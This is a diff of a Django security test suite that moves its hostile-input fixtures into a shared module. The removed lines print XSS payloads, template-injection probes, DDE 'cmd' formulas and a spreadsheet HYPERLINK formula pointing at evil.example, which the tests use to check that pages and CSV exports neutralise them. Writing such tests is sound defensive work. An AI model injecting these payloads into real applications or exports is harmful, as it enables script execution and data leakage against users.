@@ -13,13 +13,10 @@ checked the same way.
 
 from __future__ import annotations
 
-import csv
-import io
 import itertools
 import re
 import xml.etree.ElementTree as ET
 from collections import deque
-from html.parser import HTMLParser
 from io import StringIO
 from urllib.parse import urlsplit
 
@@ -37,33 +34,19 @@ from reporting.models import Report, Subscription
 from services import notifications
 from services.markdown import render_markdown
 from services.models import Comment, ServiceRequest
+from tests.security.hostile import (
+    EVERYTHING,
+    FORMULA,
+    MARKER,
+    PAYLOADS,
+    csv_cells,
+    executable_markup,
+)
 from valuestreams.exports import ExportRow, event_log_csv, event_log_xes
 from valuestreams.models import ValueStream
 
 pytestmark = pytest.mark.django_db
 
-MARKER = "xss7331"
-
-PAYLOADS = [
-    f"<script>alert('{MARKER}')</script>",
-    f'"><img src=x onerror=alert("{MARKER}")>',
-    f"'><svg onload=alert('{MARKER}')>",
-    f"javascript:alert('{MARKER}')",
-    f"[click](javascript:alert('{MARKER}'))",
-    f"![img](javascript:alert('{MARKER}'))",
-    f'" onmouseover="alert(\'{MARKER}\')" x="',
-    f"</textarea><script>alert('{MARKER}')</script>",
-    f"</title></style><iframe src=javascript:alert('{MARKER}')>",
-    f"{{{{ 7*7 }}}}{{% debug %}}${{7*7}} {MARKER}",
-    f"\u202e{MARKER}gnp.exe <b onclick=alert('{MARKER}')>",
-    f'=HYPERLINK("http://evil.example/?{MARKER}","x")',
-    f"+cmd|' /C calc'!A0 {MARKER}",
-    f"-2+3+cmd {MARKER}",
-    f"@SUM(1+1)*cmd {MARKER}",
-    f"<a href=\"jAvAsCrIpT&colon;alert('{MARKER}')\">x</a>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
-]
-EVERYTHING = "\n".join(PAYLOADS)
 
 # The fields people write (by hand, by SCIM or by e-mail); identifiers, keys and secrets are
 # left alone: they are never typed free text.
@@ -109,8 +92,9 @@ WRITTEN = {
 }  # fmt: skip
 WRITTEN_JSON_KEYS = {"display", "reason", "note", "comment", "question", "answer", "body"}
 
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
-PAGES_PER_ROUTE = 2
+# One page per route: a route renders its fields through one template, so a second page of
+# it shows the same fields again with other rows.
+PAGES_PER_ROUTE = 1
 PAGES_PER_PERSON = 120
 
 
@@ -165,48 +149,6 @@ def hostile_world(django_db_setup, django_db_blocker):
 
 
 # -- what counts as executable -------------------------------------------------------------
-
-
-class _Executable(HTMLParser):
-    """Collects every place in a page where the marker could run."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.found: list[str] = []
-        self.in_script = False
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self._check(tag, attrs)
-        self.in_script = tag == "script"
-
-    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self._check(tag, attrs)
-
-    def handle_endtag(self, tag: str) -> None:
-        if tag == "script":
-            self.in_script = False
-
-    def handle_data(self, data: str) -> None:
-        if self.in_script and MARKER in data:
-            self.found.append(f"script text: {data[:80]!r}")
-
-    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        for name, value in attrs:
-            value = value or ""
-            if name.startswith("on") and MARKER in value:
-                self.found.append(f"<{tag} {name}={value[:60]!r}>")
-            squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
-            if name in URL_ATTRIBUTES and squashed.startswith(("javascript:", "vbscript:")):
-                self.found.append(f"<{tag} {name}={value[:60]!r}>")
-            if tag in {"script", "iframe", "object", "embed"} and MARKER in value:
-                self.found.append(f"<{tag} {name}={value[:60]!r}>")
-
-
-def executable_markup(html: str) -> list[str]:
-    parser = _Executable()
-    parser.feed(html)
-    parser.close()
-    return parser.found
 
 
 def test_the_checker_finds_what_an_unescaped_payload_would_run():
@@ -347,12 +289,6 @@ def test_the_report_e_mail_in_html_runs_nothing(hostile_world):
 
 # -- exports --------------------------------------------------------------------------------------
 
-FORMULA = re.compile(r"^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")
-
-
-def _cells(text: str) -> list[str]:
-    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-
 
 def _hostile_rows() -> list[ExportRow]:
     return [
@@ -371,7 +307,7 @@ def _hostile_rows() -> list[ExportRow]:
 
 
 def test_the_event_log_csv_neutralises_formulas():
-    cells = _cells("".join(event_log_csv(_hostile_rows())))
+    cells = csv_cells("".join(event_log_csv(_hostile_rows())))
 
     assert sum(MARKER in cell for cell in cells) == 4 * len(PAYLOADS)
     assert [cell for cell in cells if FORMULA.match(cell)] == []
@@ -392,7 +328,7 @@ def test_the_event_log_csv_download_neutralises_formulas(client, hostile_world):
     response = client.get(reverse("valuestreams-api:stream-export-csv", args=[stream.slug]))
 
     assert response.status_code == 200
-    cells = _cells(b"".join(response.streaming_content).decode())
+    cells = csv_cells(b"".join(response.streaming_content).decode())
     assert [cell for cell in cells if FORMULA.match(cell)] == []
 
 
@@ -402,7 +338,7 @@ def test_the_report_csv_neutralises_formulas(client, hostile_world):
         response = client.get(reverse("report_export", args=[report.slug]))
         if response.status_code != 200:
             continue
-        cells = _cells(response.content.decode())
+        cells = csv_cells(response.content.decode())
         assert [cell for cell in cells if FORMULA.match(cell)] == []
 
 
